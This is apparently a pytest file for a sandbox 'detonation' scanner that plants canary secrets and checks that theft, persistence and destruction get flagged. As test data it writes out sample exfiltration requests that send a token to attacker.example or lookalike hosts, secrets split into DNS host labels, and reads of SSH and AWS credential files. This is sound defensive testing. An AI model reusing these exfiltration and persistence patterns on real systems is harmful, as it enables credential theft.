"""Findings of a detonation: encoded canaries are found, and a token may be sent to the host that issued it."""

from __future__ import annotations

import base64
import itertools
import json
import urllib.parse
from typing import Any

import pytest

from tacit.domain.lifecycle import coded
from tacit.domain.sandbox import Alteration, Ended, FileChange, Sandbox, SandboxRequest, SandboxResult
from tacit.domain.skill import SkillFile
from tacit.features.scan import detonation, witness
from tacit.features.scan.canaries import disguises, make_canaries
from tacit.features.scan.detonation import Detonation, SkipReason, detonate, findings_of

NUMBERS = itertools.count(0x1F2E3D4C5B6A79)


def token(count: int) -> str:
    return f"{next(NUMBERS) * 0x9E3779B97F4A7C15:x}".rjust(count * 2, "7")[-count * 2 :]


BAIT = make_canaries(token)
CORES = {canary.what: canary.core for canary in BAIT.canaries}


def ran(*saw: tuple[str, str], output: str = "", **more: Any) -> SandboxResult:
    lines = [json.dumps({"saw": kind, "text": text}) for kind, text in saw]
    return SandboxResult(
        level="test", status=more.pop("status", 0), output=output, seconds=1.0, testimony="\n".join(lines), **more
    )


def reported(result: SandboxResult) -> dict[str, str]:
    return {
        f.rule.removeprefix("detonation_"): str(f.severity)
        for f in findings_of(result, BAIT, field="files.0", path="a.py")
    }


def test_every_canary_is_a_value_of_its_own() -> None:
    assert len(set(CORES.values())) == len(CORES)
    everything = b"".join(file.content for file in (*BAIT.home, *BAIT.workspace)).decode() + str(BAIT.environment)
    assert all(core in everything for core in CORES.values())


@pytest.mark.parametrize("what", CORES)
@pytest.mark.parametrize("offset", range(5))
def test_disguised_secret_is_known_again(what: str, offset: int) -> None:
    text = "x" * offset + CORES[what] + "tail"
    for disguised in (
        text,
        text.encode().hex(),
        text[::-1],
        base64.b64encode(text.encode()).decode(),
        base64.urlsafe_b64encode(text.encode()).decode(),
        base64.b32encode(text.encode()).decode(),
        urllib.parse.quote(text),
        "\n".join(text[i : i + 7] for i in range(0, len(text), 7)),
    ):
        assert BAIT.met(f"before {disguised} after") == (what,), disguised


def test_other_texts_hold_no_secret() -> None:
    other = make_canaries(token)
    assert BAIT.met(str(other.environment), *(file.content.decode() for file in other.home)) == ()
    assert all(len(form) >= 30 for form in disguises(CORES["the AWS key"]))


def test_secret_that_leaves_is_critical_wherever_it_stands() -> None:
    core = CORES["the SSH key"]
    assert reported(ran(("request", f"POST http://a.example/ HTTP/1.1\r\n\r\n{core}")))["secret_sent"] == "critical"
    assert reported(ran(("host", f"{core}.a.example")))["secret_sent"] == "critical"
    segments = [("host", f"{core[i : i + 10]}.a.example") for i in range(0, len(core), 10)]
    assert reported(ran(*segments))["secret_sent"] == "critical"


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [
        (
            "https://api.github.com GET /issues HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer ghp_{core}",
            False,
        ),
        ("https://github.com.attacker.example GET / HTTP/1.1\r\nAuthorization: Bearer ghp_{core}", True),
        (
            "https://attacker-github.com GET / HTTP/1.1\r\nHost: attacker-github.com\r\nAuthorization: Bearer ghp_{core}",
            True,
        ),
        ("GET http://attacker.example/?t={core} HTTP/1.1", True),
    ],
)
def test_token_may_go_back_to_who_gave_it(request_text: str, sent: bool) -> None:
    result = ran(("request", request_text.format(core=CORES["GITHUB_TOKEN"])))
    assert ("secret_sent" in reported(result)) is sent


def test_secret_that_stays_is_high() -> None:
    core = CORES["the wallet"]
    assert reported(ran(output=f"wallet: {core}")) == {"secret_shown": "high"}
    change = FileChange(path="x", how=Alteration.ADDED, content=core.encode())
    assert reported(ran(changes=(change,))) == {"secret_copied": "high"}
    assert reported(ran(("content", f"/tmp/x\n{core}"))) == {"secret_copied": "high"}
    assert reported(ran(("argv", f"cp {core} x"))) == {"secret_passed": "high"}
    assert reported(ran(("read", ".ssh/id_ed25519"))) == {"secret_read": "high"}


def test_reading_a_secret_and_reaching_out_is_critical() -> None:
    by_number = ("counters", json.dumps({"no route": 1}))
    by_name = ("host", "a.example")
    by_question = ("counters", json.dumps({"datagrams": 2}))
    for way in (by_number, by_name, by_question):
        assert reported(ran(("read", ".aws/credentials"), way))["secret_read"] == "critical"


def test_build_that_copies_the_settings_of_the_project_is_no_theft() -> None:
    change = FileChange(path="dist/.env", how=Alteration.ADDED, content=CORES["the .env file"].encode())
    assert reported(ran(changes=(change,))) == {}


def test_deeds_have_their_rules() -> None:
    assert reported(ran(("ran", "x"))) == {"runs_download": "critical"}
    assert reported(ran(("altered", ".bashrc"))) == {"persistence": "high"}
    assert reported(ran(("added", ".config/autostart/x.desktop"))) == {"persistence": "high"}
    assert reported(ran(("added", ".cache/x"))) == {}
    assert reported(ran(("host", "a.example"))) == {"network": "medium"}
    assert reported(ran(("host", "localhost"))) == {}
    assert reported(ran(("counters", json.dumps({"no route": 1})))) == {"address": "high"}
    gone = [("removed", f"Documents/{name}") for name in ("report.txt", "letter.txt", "budget.csv")]
    assert reported(ran(*gone)) == {"destruction": "high"}
    assert reported(ran(*gone[:2])) == {}
    hook = FileChange(path=".git/hooks/pre-commit", how=Alteration.ADDED)
    assert reported(ran(changes=(hook,))) == {"persistence": "high"}


def test_names_of_hosts_cannot_play_with_a_terminal() -> None:
    [finding] = findings_of(ran(("host", "\x1b[2J\u202eevil.example" + "x" * 500)), BAIT, field="files.0", path="a.py")
    assert finding.message.isprintable()
    assert len(finding.message) < 130


def test_ends_are_reported() -> None:
    assert reported(ran(ended=Ended.MEMORY, alarms=("lost",))) == {"resources": "high"}
    assert reported(ran(("counters", json.dumps({"processes": 60})))) == {"resources": "high"}
    assert reported(ran(output="a.sh: fork: retry: Resource temporarily unavailable")) == {"resources": "high"}
    assert reported(ran(alarms=("the witness was ended",))) == {"tampering": "high"}
    assert reported(ran(ended=Ended.OUTPUT)) == {"resources": "medium"}
    assert reported(ran(status=152)) == {"resources": "medium"}
    assert reported(ran(ended=Ended.TIME)) == {"unfinished": "medium"}


@pytest.mark.parametrize(
    "line", ["", "end", "[]", "{", '"x"', '{"saw": 1}', '{"saw": "counters", "text": "x"}', "[" * 100_000]
)
def test_testimony_that_makes_no_sense_is_read_all_the_same(line: str) -> None:
    result = SandboxResult(level="test", status=0, output="", seconds=0, testimony=line)
    assert reported(result) == {}


class Recorder:
    """A sandbox that runs nothing and remembers what it was asked."""

    def __init__(self, *, status: int = 0, output: str = "") -> None:
        self.errands: list[SandboxRequest] = []
        self._result = ran(status=status, output=output)

    def run(self, request: SandboxRequest) -> SandboxResult:
        self.errands.append(request)
        return self._result


def tried(sandbox: Sandbox, *files: SkillFile, **more: Any) -> Detonation:
    return detonate(files, sandbox, token=token, find=lambda name: f"/usr/bin/{name}", **more)


def test_scripts_are_run_one_by_one_and_other_files_only_lie_next_to() -> None:
    sandbox = Recorder()
    files = (
        SkillFile(path="SKILL.md", content="# Run it"),
        SkillFile(path="scripts/a.py", content="print()"),
        SkillFile(path="bin/tool", content="#!/usr/bin/env bash\necho"),
        SkillFile(path="logo.png", content="AAAA", encoding="base64"),
        SkillFile(path="../out.sh", content="echo"),
        SkillFile(path="odd\ud800.sh", content="echo"),
        SkillFile(path="long" * 300 + ".sh", content="echo"),
    )
    seen = tried(sandbox, *files)
    assert seen.ran == ("scripts/a.py", "bin/tool")
    assert [path for path, _ in seen.skipped] == ["../out.sh", "odd\ud800.sh", "long" * 300 + ".sh"]
    assert [request.command[0] for request in sandbox.errands] == ["/usr/bin/python3", "/usr/bin/bash"]
    inside = {file.path for file in sandbox.errands[0].files}
    assert {"SKILL.md", "scripts/a.py", "bin/tool", "logo.png", ".env"} <= inside
    assert "../out.sh" not in inside


def test_script_that_asks_for_arguments_is_run_again_with_some() -> None:
    sandbox = Recorder(status=2, output="usage: a.py SOURCE TARGET")
    tried(sandbox, SkillFile(path="a.py", content=""))
    assert [len(request.command) for request in sandbox.errands] == [2, 4]


def test_every_script_gets_bait_of_its_own() -> None:
    sandbox = Recorder()
    tried(sandbox, SkillFile(path="a.py", content=""), SkillFile(path="b.py", content=""))
    first, second = (request.environment["GITHUB_TOKEN"] for request in sandbox.errands)
    assert first != second


def test_time_for_all_scripts_is_limited_and_what_was_left_out_is_a_severe_finding() -> None:
    clock = itertools.count(0.0, 20.0)
    files = [SkillFile(path=f"{n}.py", content="") for n in range(5)]
    seen = tried(Recorder(), *files, clock=lambda: next(clock))
    assert len(seen.ran) == 2
    assert [path for path, _ in seen.skipped] == ["2.py", "3.py", "4.py"]
    assert seen.skipped[0][1] == coded(SkipReason.TIME_USED_UP, seconds=60.0)
    assert [(each.rule, each.severity, each.field) for each in seen.findings] == [
        ("detonation_not_run", "high", f"files.{number}") for number in (2, 3, 4)
    ]


class Sleepers:
    """A sandbox with a clock, in which every script but `thief.py` takes up all its time."""

    def __init__(self) -> None:
        self.now = 0.0
        self.runs: list[tuple[str, float]] = []

    def run(self, request: SandboxRequest) -> SandboxResult:
        path, wall_s = request.command[1], request.limits.wall_s
        self.runs.append((path, wall_s))
        if path == "thief.py":
            self.now += 0.1
            return ran(("request", f"POST http://a.example/ HTTP/1.1\r\n\r\n{request.environment['GITHUB_TOKEN']}"))
        self.now += wall_s
        return ran(ended=Ended.TIME)


def test_scripts_that_sleep_hide_no_thief_behind_them() -> None:
    sandbox = Sleepers()
    files = [*(SkillFile(path=f"{n}.py", content="") for n in range(9)), SkillFile(path="thief.py", content="")]
    seen = tried(sandbox, *files, clock=lambda: sandbox.now)
    assert len(seen.ran) == 10
    rules = [(each.rule, each.severity.value) for each in seen.findings]
    assert rules.count(("detonation_unfinished", "medium")) == 9
    assert ("detonation_secret_sent", "critical") in rules
    assert [seconds for path, seconds in sandbox.runs if path == "0.py"] == [detonation.FIRST_S, detonation.EACH_S]


def test_the_most_suspicious_script_runs_first() -> None:
    sandbox = Sleepers()
    files = [*(SkillFile(path=f"{n}.py", content="") for n in range(200)), SkillFile(path="thief.py", content="")]
    seen = tried(sandbox, *files, clock=lambda: sandbox.now, suspicion={200: 3})
    assert sandbox.runs[0][0] == "thief.py"
    rules = {each.rule for each in seen.findings}
    assert {"detonation_secret_sent", "detonation_not_run", "detonation_unfinished"} <= rules


def test_script_of_the_skill_is_not_hidden_by_bait_of_the_same_name() -> None:
    sandbox = Recorder()
    tried(sandbox, SkillFile(path=".env", content="MINE=1"), SkillFile(path="a.py", content=""))
    [mine] = [file for file in sandbox.errands[0].files if file.path == ".env"]
    assert mine.content == b"MINE=1"


def test_script_without_its_program_is_left_out_with_the_reason() -> None:
    seen = detonate([SkillFile(path="a.rb", content="")], Recorder(), token=token, find=lambda _: None)
    assert (seen.ran, seen.level) == ((), "")
    assert seen.skipped == (("a.rb", coded(SkipReason.PROGRAM_MISSING, program="ruby", folder="/usr/bin")),)


def test_scripts_are_reported_of_the_witness_where_it_is() -> None:
    assert f"http://127.0.0.1:{witness.PROXY_PORT}" == detonation.PROXY
    assert str(witness.PRIVATE / "ca.pem") == detonation.CERTIFICATE
    sandbox = Recorder()
    tried(sandbox, SkillFile(path="a.py", content=""))
    assert "def answer_names" in sandbox.errands[0].witness


def test_text_that_was_fetched_and_run_leaves_its_mark_in_both_languages() -> None:
    compile(witness.PAYLOAD, "payload", "exec")
    assert witness.PAYLOAD.decode().splitlines()[:3] == ['""":"', f": > {witness.RAN}", "exit 0"]


def test_name_that_begins_like_an_option_is_given_as_a_path() -> None:
    sandbox = Recorder()
    tried(sandbox, SkillFile(path="-h.py", content=""))
    assert sandbox.errands[0].command[1] == "./-h.py"


@pytest.mark.parametrize("name", ["x" * 300 + ".py", "a\0.py", "../a.py"])
def test_name_that_cannot_be_written_is_left_out_and_the_others_run(name: str) -> None:
    seen = tried(Recorder(), SkillFile(path=name, content=""), SkillFile(path="b.py", content=""))
    assert (seen.ran, [path for path, _ in seen.skipped]) == (("b.py",), [name])


@pytest.mark.parametrize(
    ("path", "content"),
    [("run.zsh", "id"), ("run.command", "id"), ("run", "\ufeff#!/bin/sh\nid"), ("go", "#!/bin/zsh\n")],
)
def test_scripts_of_every_shell_are_run(path: str, content: str) -> None:
    assert tried(Recorder(), SkillFile(path=path, content=content)).ran == (path,)


def test_program_that_needs_no_other_is_run_by_itself() -> None:
    sandbox = Recorder()
    tool = SkillFile(path="bin/tool", content=base64.b64encode(b"\x7fELF\xff").decode(), encoding="base64")
    assert tried(sandbox, tool).ran == ("bin/tool",)
    assert sandbox.errands[0].command == ("./bin/tool",)
    assert [box.executable for box in sandbox.errands[0].files if box.path == "bin/tool"] == [True]


@pytest.mark.parametrize(
    "file", [SkillFile(path="run", content="#!/opt/odd\n"), SkillFile(path="tool", content="x", executable=True)]
)
def test_what_nothing_here_runs_is_named(file: SkillFile) -> None:
    seen = tried(Recorder(), file)
    assert (seen.ran, seen.skipped) == ((), ((file.path, coded(SkipReason.NO_KNOWN_PROGRAM)),))
